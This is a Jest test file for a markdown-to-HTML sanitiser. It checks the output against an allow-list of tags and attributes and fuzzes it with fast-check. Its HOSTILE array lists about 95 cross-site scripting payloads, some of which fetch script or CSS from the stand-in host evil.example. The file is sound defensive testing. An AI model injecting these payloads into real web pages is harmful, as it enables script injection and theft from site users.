import { describe, expect, it } from '@jest/globals';
import fc from 'fast-check';
import { renderMarkdown } from './sanitise.js';

const ATTRIBUTE: Record<string, RegExp> = {
  href: /^(https?:\/\/|mailto:)[^"]*$/i,
  title: /^[^"]*$/,
  target: /^_blank$/,
  rel: /^noopener noreferrer nofollow$/,
  start: /^\d+$/,
  align: /^(left|center|right)$/,
  id: /^h-\d+$/,
};
const TAGS = new Set(
  'h1 h2 h3 h4 h5 h6 p ul ol li blockquote pre code a table thead tbody tr th td br hr b strong i em u s del ins mark small sub sup kbd'.split(
    ' ',
  ),
);
const WRAPPER = '<div class="scroll" role="group" aria-label="Table" tabindex="0">';

/**
 * Every `<` of the output must open or close an allowed tag with allowed attributes. This holds for any parser: with no
 * raw-text or foreign element in the list, none can read the rest otherwise.
 */
function breachesOf(html: string): string[] {
  const breaches: string[] = [];
  for (const piece of html
    .replaceAll(WRAPPER, '')
    .replaceAll('</table></div>', '</table>')
    .split('<')
    .slice(1)) {
    const tag = /^(\/?)([a-z][a-z0-9]*)((?: [a-z]+="[^"<>]*")*)( \/)?>/.exec(piece);
    if (!tag || !TAGS.has(tag[2] as string)) {
      breaches.push(`<${piece}`);
      continue;
    }
    for (const [, name, value] of (tag[3] as string).matchAll(/ ([a-z]+)="([^"]*)"/g))
      if (!ATTRIBUTE[name as string]?.test(value as string)) breaches.push(`${name}="${value}"`);
    if (tag[2] === 'a' && tag[1] === '' && !tag[3]?.includes('rel=')) breaches.push(`<${piece}`);
  }
  return breaches;
}

const HOSTILE = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script\n>alert(1)</script\n>',
  '<script/x>alert(1)</script/x>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(1)"//',
  '<img/src=x/onerror=alert(1)>',
  '<img src=x:alert(alt) onerror=eval(src) alt=1>',
  '<b onmouseover=alert(1)>hover</b>',
  '<a href="https://ok.example" onclick="alert(1)">x</a>',
  '<body onload=alert(1)>',
  '<details open ontoggle=alert(1)><summary>x</summary></details>',
  '<video><source onerror="alert(1)"></video>',
  '<audio src=x onerror=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<select autofocus onfocus=alert(1)></select>',
  '<marquee onstart=alert(1)>x</marquee>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](&#x6A;&#x61;vascript&colon;alert(1))',
  '[x](java\tscript:alert(1))',
  '[x](<java\nscript:alert(1)>)',
  '[x](\u0001javascript:alert(1))',
  '[x](  javascript:alert(1))',
  '[x](vbscript:msgbox(1))',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](DATA:text/html,<script>alert(1)</script>)',
  '[x](file:///etc/passwd)',
  '[x](//evil.example/x)',
  '[x](/api/plans)',
  '[x](https://ok.example "a\\" onclick=alert(1)")',
  "[x](https://ok.example'onclick=alert(1))",
  '[x]: javascript:alert(1)\n\n[x]',
  '<javascript:alert(1)>',
  '<a href="jav&#x0A;ascript:alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '![x](javascript:alert(1))',
  '![x](https://tracker.example/pixel.gif)',
  '![" onerror="alert(1)](x)',
  '[![x](javascript:alert(1))](javascript:alert(2))',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
  '<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<b style="position:fixed;inset:0">x</b>',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<template><script>alert(1)</script></template>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<title><img src=x onerror=alert(1)></title>',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<plaintext><script>alert(1)</script>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<p id="</p><script>alert(1)</script>">x</p>',
  '<!-- --><script>alert(1)</script>',
  '<!--><script>alert(1)</script>-->',
  '<!-- x --!><script>alert(1)</script> -->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?php echo "<script>alert(1)</script>" ?>',
  '<!DOCTYPE html [<!ENTITY x "<script>">]>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src=javascript:alert(1)>',
  '<object data=javascript:alert(1)></object>',
  '<embed src=javascript:alert(1)>',
  '<form action=javascript:alert(1)><button>go</button></form>',
  '<button formaction=javascript:alert(1)>x</button>',
  '<h1 id="report" name="getElementById">x</h1>',
  '<a id=location name=cookie href="https://ok.example">x</a>',
  '<div class="scroll" tabindex="0">x</div>',
  '```"><script>alert(1)</script>\n<script>alert(1)</script>\n```',
  '`<script>alert(1)</script>`',
  '| a |\n| --- |\n| <script>alert(1)</script> |',
  '| <img src=x onerror=alert(1)> | b |\n| :-: | --: |\n| [x](javascript:alert(1)) | y |',
  '> - 1. <script>alert(1)</script>\n>   <svg onload=alert(1)>',
  '# <script>alert(1)</script>',
  '**<img src=x onerror=**alert(1)>**',
  '<b<script>alert(1)</script>>x</b>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '<\u0000script>alert(1)</script>',
  '<ſcript>alert(1)</ſcript>',
  '</p></main></body><script>alert(1)</script>',
  '<br onload=alert(1) /><br/x=1>',
];

describe('renderMarkdown against hostile text', () => {
  it.each(HOSTILE)('%j', (text) => {
    for (const html of [renderMarkdown(text), renderMarkdown(`before\n\n${text}\n\nafter`)])
      expect(breachesOf(html)).toEqual([]);
    // What stands around is neither swallowed nor put inside something else.
    if (!/^(```|<!)/.test(text)) expect(renderMarkdown(`${text}\n\nafter`)).toContain('after');
  });

  it('holds for any mix of them, and what came out goes in again unharmed', () => {
    const piece = fc.oneof(fc.constantFrom(...HOSTILE), fc.string({ unit: 'grapheme', maxLength: 12 }));
    const glue = fc.constantFrom('', ' ', '\n', '\n\n', '\n- ', '\n    ', '|', '">', '*');
    fc.assert(
      fc.property(fc.array(fc.tuple(piece, glue), { maxLength: 8 }), (pieces) => {
        const html = renderMarkdown(pieces.flat().join(''), { headingPrefix: 'h-', topHeading: 3 });
        expect(breachesOf(html)).toEqual([]);
        expect(breachesOf(renderMarkdown(html))).toEqual([]);
      }),
      { numRuns: 400 },
    );
  });

  it('shows text that is nested too deep to parse as it is', () => {
    const html = renderMarkdown(`${'>'.repeat(20_000)} <script>alert(1)</script>`);
    expect(breachesOf(html)).toEqual([]);
    expect(html).toContain('alert(1)');
  });

  it('would find a breach', () => {
    expect(breachesOf('<p>a</p><script>x</script>')).toHaveLength(2);
    expect(breachesOf('<a href="javascript:x" rel="noopener noreferrer nofollow">x</a>')).toHaveLength(1);
    expect(breachesOf('<b onclick="x">x</b>')).toHaveLength(1);
  });
});

describe('renderMarkdown for ordinary text', () => {
  it('renders what a plan holds', () => {
    const html = renderMarkdown(
      '# Title\n\nOne *two* **three** ~~four~~ `five`\n\n3. a\n4. b\n\n- [x] done\n\n| A | B |\n| --- | --: |\n| 1<br>2 | x \\| y |\n',
    );
    for (const part of [
      '<h1>Title</h1>',
      '<em>two</em>',
      '<strong>three</strong>',
      '<del>four</del>',
      '<code>five</code>',
      '<ol start="3">',
      '☑ done',
      `${WRAPPER}<table>`,
      '<td>1<br />2</td>',
      '<td align="right">x | y</td>',
    ])
      expect(html).toContain(part);
  });

  it('opens links in a page of their own that knows nothing of this one', () => {
    expect(renderMarkdown('[a](https://x.example/?a=1&b=2 "t")')).toBe(
      '<p><a target="_blank" rel="noopener noreferrer nofollow" href="https://x.example/?a=1&amp;b=2" title="t">a</a></p>',
    );
    expect(renderMarkdown('[a](#b) [c](mailto:d@e.example)')).toBe(
      '<p>a <a target="_blank" rel="noopener noreferrer nofollow" href="mailto:d@e.example">c</a></p>',
    );
  });

  it('shows foreign HTML as the text it is, drops comments and keeps bare formatting', () => {
    expect(renderMarkdown('a <b>b</b> <blink>c</blink><!-- d --> ![e](f)')).toBe(
      '<p>a <b>b</b> &lt;blink&gt;c&lt;/blink&gt; e</p>',
    );
  });

  it('lifts headings and numbers them on request', () => {
    expect(renderMarkdown('## A\n\n### B\n\n> ###### C', { topHeading: 4, headingPrefix: 'h-' })).toBe(
      '<h4 id="h-1">A</h4>\n<h5 id="h-2">B</h5>\n<blockquote>\n<h6 id="h-3">C</h6>\n</blockquote>',
    );
  });
});
